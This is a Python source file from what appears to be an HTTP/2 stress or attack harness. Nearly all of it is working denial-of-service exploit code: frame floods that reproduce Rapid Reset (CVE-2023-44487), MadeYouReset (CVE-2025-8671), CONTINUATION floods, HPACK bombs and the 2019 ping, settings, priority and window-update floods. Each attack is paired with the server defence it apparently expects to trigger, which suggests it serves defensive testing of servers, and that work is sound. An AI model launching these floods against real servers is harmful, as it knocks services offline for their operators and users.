"""Attacks with frames: streams, header blocks, and frames without effect."""

from __future__ import annotations

from typing import Callable, Iterator

from attacker import Attacker, answered, attack
from raw import (ACK, CHECK, CONTINUATION, DATA, ENABLE_PUSH, END_HEADERS, END_STREAM, HEADERS, HEADER_TABLE_SIZE,
                 INITIAL_WINDOW_SIZE, MAX_CONCURRENT_STREAMS, MAX_FRAME_SIZE, MAX_HEADER_LIST_SIZE, PADDED, PING,
                 PRIORITY, PRIORITY_FLAG, Connection, frame, message, request, reset, settings, window_update)

# Field 16 of RFC 7541's static table: one byte that counts sixty.
REFERENCE = b"\x90"


def streams(connection: Connection, make: Callable[[int], bytes], each: int = 50) -> Iterator[bytes]:
    while True:
        yield b"".join(make(connection.stream()) for _ in range(each))


def opened(connection: Connection, path: str = CHECK) -> Callable[[int], bytes]:
    """A function that returns the bytes of an open stream. The first call fills the tables of both sides."""
    connection.write(connection.headers(connection.stream(), request(path), END_HEADERS | END_STREAM))
    block = connection.encoder.encode(request(path))
    return lambda stream: frame(HEADERS, END_HEADERS, stream, block)


# Streams.


@attack("too_many_resets")
def rapid_reset(attacker: Attacker) -> None:
    """CVE-2023-44487."""
    connection = attacker.settled()
    head = opened(connection)
    attacker.flood(connection, streams(connection, lambda stream: head(stream) + reset(stream)))


@attack("too_many_stream_errors")
def made_you_reset_by_window(attacker: Attacker) -> None:
    """CVE-2025-8671: a window past 2^31 - 1."""
    connection = attacker.settled()
    head = opened(connection)
    attacker.flood(connection, streams(connection, lambda stream: head(stream) + window_update(stream, 2**31 - 1)))


@attack("too_many_stream_errors")
def made_you_reset_by_length(attacker: Attacker) -> None:
    """CVE-2025-8671: a wrong content-length."""
    connection = attacker.settled()
    connection.write(connection.headers(connection.stream(), request(CHECK, ("content-length", "5"))))
    block = connection.encoder.encode(request(CHECK, ("content-length", "5")))
    attacker.flood(connection, streams(connection, lambda stream: frame(
        HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, b"a")))


@attack("request HEADERS: depend on itself")
def made_you_reset_by_itself(attacker: Attacker) -> None:
    """CVE-2025-8671: a stream that depends on itself."""
    connection = attacker.settled()
    opened(connection)
    block = connection.encoder.encode(request())
    attacker.flood(connection, streams(connection, lambda stream: frame(
        HEADERS, END_HEADERS | PRIORITY_FLAG, stream, stream.to_bytes(4, "big") + b"\x0f" + block)))


@attack("WINDOW_UPDATE: window_size_increment == 0")
def made_you_reset_by_zero_increment(attacker: Attacker) -> None:
    """CVE-2025-8671: a window update of zero. nghttp2 ends the connection at the first one."""
    connection = attacker.settled()
    head = opened(connection)
    attacker.flood(connection, streams(connection, lambda stream: head(stream) + window_update(stream, 0)))


@attack("RST_STREAM: stream in idle")
def reset_of_idle_streams(attacker: Attacker) -> None:
    connection = attacker.settled()
    attacker.flood(connection, streams(connection, reset))


@attack("frame_on_closed_stream")
def data_after_a_reset(attacker: Attacker) -> None:
    """More and more DATA for a request that was answered long ago."""
    connection, stream = answered_early(attacker)
    attacker.flood(connection, lambda: frame(DATA, 0, stream, b"a") * 500)


@attack("too_many_control_frames")
def headers_after_a_reset(attacker: Attacker) -> None:
    connection, stream = answered_early(attacker)
    block = connection.encoder.encode([("x", "1")])
    attacker.flood(connection, lambda: frame(HEADERS, END_HEADERS | END_STREAM, stream, block) * 500)


def answered_early(attacker: Attacker) -> tuple[Connection, int]:
    """A call that was answered before its end arrived, so that its stream was reset."""
    connection = attacker.settled()
    stream = connection.stream()
    connection.write(connection.headers(stream, request("/nowhere/Nothing")))
    connection.reply(stream, wait_for_reset=True)
    return connection, stream


@attack("too_many_stream_errors")
def streams_past_the_limit(attacker: Attacker) -> None:
    connection = attacker.settled()
    attacker.flood(connection, streams(connection, opened(connection)))


@attack("too_many_premature_streams")
def streams_past_a_limit_never_acknowledged(attacker: Attacker) -> None:
    connection = attacker.connect(acknowledge=False)
    attacker.flood(connection, streams(connection, opened(connection)))


# Header blocks.


@attack("too_many_continuations")
def continuation_flood(attacker: Attacker) -> None:
    """CVE-2024-28182."""
    connection = attacker.settled()
    connection.write(frame(HEADERS, 0, 1, connection.encoder.encode(request())))
    attacker.flood(connection, lambda: frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 100) * 10)


@attack("too_many_continuations")
def empty_continuations(attacker: Attacker) -> None:
    connection = attacker.settled()
    connection.write(frame(HEADERS, 0, 1, connection.encoder.encode(request())))
    attacker.flood(connection, lambda: frame(CONTINUATION, 0, 1) * 100)


@attack("too_many_continuations")
def header_block_of_a_megabyte(attacker: Attacker) -> None:
    connection = attacker.settled()
    block = connection.encoder.encode(request() + [("x-" + str(at), "v" * 4000) for at in range(256)], huffman=False)
    parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]
    attacker.flood(connection, iter([frame(HEADERS, 0, 1, parts[0])] + [
        frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, 1, part) for part in parts[1:]]))


@attack("header_list_bomb")
def hpack_bomb(attacker: Attacker) -> None:
    """One entry of four thousand bytes, and sixteen thousand bytes of references to it."""
    connection = attacker.settled()
    block = connection.encoder.encode(request() + [("x-bomb", "b" * 3900)])
    # 62 is the newest entry of the dynamic table.
    attacker.flood(connection, iter([frame(HEADERS, END_HEADERS, 1, block + b"\xbe" * 12000)]))


@attack("too_many_large_header_lists")
def header_lists_past_the_limit(attacker: Attacker) -> None:
    connection = attacker.settled()
    block = connection.encoder.encode(request()) + REFERENCE * 300
    attacker.flood(connection, streams(connection, lambda stream: frame(
        HEADERS, END_HEADERS | END_STREAM, stream, block), each=10))


@attack("too_many_stream_errors")
def fields_without_a_name(attacker: Attacker) -> None:
    """CVE-2019-9516."""
    connection = attacker.settled()
    block = connection.encoder.encode(request()) + b"\x00\x00\x00" * 4000
    attacker.flood(connection, streams(connection, lambda stream: frame(
        HEADERS, END_HEADERS | END_STREAM, stream, block), each=2))


# Frames without effect.


@attack("too_many_pings")
def ping_flood(attacker: Attacker) -> None:
    """CVE-2019-9512."""
    attacker.flood(attacker.settled(), lambda: frame(PING, 0, 0, b"pingping") * 500)


@attack("too_many_control_frames")
def ping_answers_nobody_asked_for(attacker: Attacker) -> None:
    attacker.flood(attacker.settled(), lambda: frame(PING, ACK, 0, b"pingping") * 500)


@attack("too_many_settings")
def settings_flood(attacker: Attacker) -> None:
    """CVE-2019-9515."""
    attacker.flood(attacker.settled(), lambda: settings((HEADER_TABLE_SIZE, 0), (HEADER_TABLE_SIZE, 4096)) * 10)


@attack("too_many_empty_frames")
def empty_data(attacker: Attacker) -> None:
    """CVE-2019-9518."""
    connection = attacker.settled()
    connection.write(connection.headers(1, request()))
    attacker.flood(connection, lambda: frame(DATA, 0, 1) * 5)


@attack("too_many_empty_frames")
def padded_empty_data(attacker: Attacker) -> None:
    connection = attacker.settled()
    connection.write(connection.headers(1, request()))
    attacker.flood(connection, lambda: frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 5)


@attack("too_many_control_frames")
def window_updates(attacker: Attacker) -> None:
    """CVE-2019-9511."""
    attacker.flood(attacker.settled(), lambda: window_update(0, 1) * 500)


@attack("too_many_control_frames")
def unknown_frames(attacker: Attacker) -> None:
    attacker.flood(attacker.settled(), lambda: frame(0xfa, 0xff, 0) * 500)


@attack("too_many_priorities")
def priorities(attacker: Attacker) -> None:
    """CVE-2019-9513: constant changes of the priority tree."""
    def churn() -> Iterator[bytes]:
        while True:
            yield b"".join(frame(PRIORITY, 0, 2 * at + 3, (2 * at + 1).to_bytes(4, "big") + b"\x10")
                           for at in range(50))

    attacker.flood(attacker.settled(), churn())


@attack("status 0")
def settings_games(attacker: Attacker) -> None:
    """The minimum and maximum of each setting, and a call with each."""
    with attacker.settled() as connection:
        for pair in [(HEADER_TABLE_SIZE, 0), (HEADER_TABLE_SIZE, 2**32 - 1), (ENABLE_PUSH, 0), (ENABLE_PUSH, 1),
                     (MAX_CONCURRENT_STREAMS, 0), (MAX_CONCURRENT_STREAMS, 2**32 - 1), (MAX_FRAME_SIZE, 16384),
                     (MAX_FRAME_SIZE, 2**24 - 1), (MAX_HEADER_LIST_SIZE, 0), (MAX_HEADER_LIST_SIZE, 2**32 - 1)]:
            connection.write(settings(pair))
            attacker.met[f"status {connection.call().status}"] += 1


@attack("status 0")
def window_games(attacker: Attacker) -> None:
    """A hundred streams whose windows move together between the ends of their range."""
    with attacker.settled() as connection:
        held = [connection.stream() for _ in range(100)]
        connection.write(*[connection.headers(stream, request()) for stream in held])
        for size in (2**31 - 1, 0, 2**31 - 1, 0):
            connection.write(settings((INITIAL_WINDOW_SIZE, size)))
        connection.write(settings((INITIAL_WINDOW_SIZE, 65535)),
                         *[frame(DATA, END_STREAM, stream, message()) for stream in held])
        answered(attacker, connection, set(held), attacker.patience_seconds)
